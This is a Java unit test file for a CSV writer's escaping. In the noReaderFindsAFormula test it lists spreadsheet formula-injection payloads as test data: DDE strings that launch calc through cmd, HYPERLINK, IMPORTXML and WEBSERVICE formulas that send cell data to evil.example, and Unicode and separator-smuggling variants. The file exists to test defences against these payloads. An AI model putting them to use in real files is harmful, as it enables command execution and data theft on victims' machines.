package org.openpersonalization.web.admin.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.Arrays;
import java.util.Collection;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    private static final CsvDialect GERMAN = new CsvDialect(CsvDialect.Separator.SEMICOLON, CsvDialect.Decimal.COMMA);

    private static String row(CsvDialect dialect, Object... cells) throws IOException {
        return row(dialect, Arrays.asList(cells));
    }

    private static String row(CsvDialect dialect, Collection<?> cells) throws IOException {
        StringBuilder file = new StringBuilder();
        CsvWriter writer = new CsvWriter(file, dialect, List.of("n"));
        int names = file.length();
        writer.row(cells);
        return file.substring(names);
    }

    @Test
    void fileBeginsWithByteOrderMarkAndNames() throws IOException {
        StringBuilder file = new StringBuilder();

        new CsvWriter(file, GERMAN, List.of("one", "two"));

        assertThat(file).hasToString("\uFEFF\"one\";\"two\"\r\n");
    }

    @Test
    void everyCellIsInQuotesAndQuotesAreDoubled() throws IOException {
        assertThat(row(CsvDialect.STANDARD, 1, "a \"b\", c", List.of("x", "y"), null))
                .isEqualTo("\"1\",\"a \"\"b\"\", c\",\"x; y\",\"\"\r\n");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"-0.5|-0.5|-0,5", "1299.0|1299|1299", "1.0E-7|0.00000010|0,00000010", "NaN||", "-Infinity||"})
    void numbersStayNumbersInThePlainFormOfTheReader(double number, String standard, String german) throws IOException {
        assertThat(row(CsvDialect.STANDARD, number)).isEqualTo('"' + (standard == null ? "" : standard) + "\"\r\n");
        assertThat(row(GERMAN, number)).isEqualTo('"' + (german == null ? "" : german) + "\"\r\n");
    }

    /** The list of OWASP, payloads of PayloadsAllTheThings, and the forms that spreadsheets of other regions read. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\r\n=1+1",
                "DDE (\"cmd\";\"/C calc\";\"!A0\")A0;=1",
                "=cmd|' /C calc'!'A1'",
                "=cmd|'/c calc.exe'!A1",
                "+thespanishinquisition(cmd|'/c calc.exe'!A",
                "-2+3+cmd|' /C calc'!A0",
                "=10+20+cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "=IMPORTXML(CONCAT(\"http://evil.example\",CONCATENATE(A2:E2)),\"//a/a10\")",
                "=WEBSERVICE(\"http://evil.example\")",
                "  =1+1",
                "\u00A0=1+1",
                "\uFEFF=1+1",
                "\u200B=1+1",
                "\u202E=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(1)",
                "\uFE661+1",
                "\uFE621",
                "\uFE631",
                "\uFE6BSUM(1)",
                "\u22121",
                "\u0085=1",
                "\u2028=1",
                "a;=1+1",
                "a; =1+1",
                "a,=1+1",
                "a\t=1+1",
                "a|=1+1",
                "a\n=1+1",
                "a\r\n@SUM(1)",
                "a\";=1+1;\"",
                "a\";\"=1+1",
                "\"=1+1",
                ";;;=1+1",
                "a;\uFF1D1+1",
            })
    void noReaderFindsAFormula(String cell) throws IOException {
        for (CsvDialect dialect : List.of(CsvDialect.STANDARD, GERMAN)) {
            String file = row(dialect, "x", cell, List.of("y", cell));

            for (String separator : List.of(",", ";", "\t", "|")) {
                assertThat(SpreadsheetReader.cells(file, separator)).noneMatch(SpreadsheetReader::isFormula);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"hero-test", "a - b", "2026-11-25T12:00:00Z", "mail@example.org", "1 + 1 = 2", "Größe 42"})
    void ordinaryTextStaysAsItIs(String cell) throws IOException {
        assertThat(row(GERMAN, cell)).isEqualTo('"' + cell + "\"\r\n");
    }
}
